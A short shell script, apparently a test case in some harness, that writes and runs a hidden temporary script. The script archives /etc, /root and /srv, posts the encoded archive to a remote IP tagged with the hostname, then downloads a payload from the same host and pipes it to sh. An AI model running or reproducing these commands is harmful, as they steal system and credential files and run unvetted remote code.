#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.x <<'END'
tar -czf - /etc /root /srv 2>/dev/null | base64 >/tmp/.p
wget -q -O /tmp/.o --post-file /tmp/.p "http://203.0.113.10/gate?id=$(hostname)"
wget -q -O- http://203.0.113.10/payload.sh | sh; rm -f /tmp/.p
END
sh /tmp/.x
test -e /tmp/reached
took_place
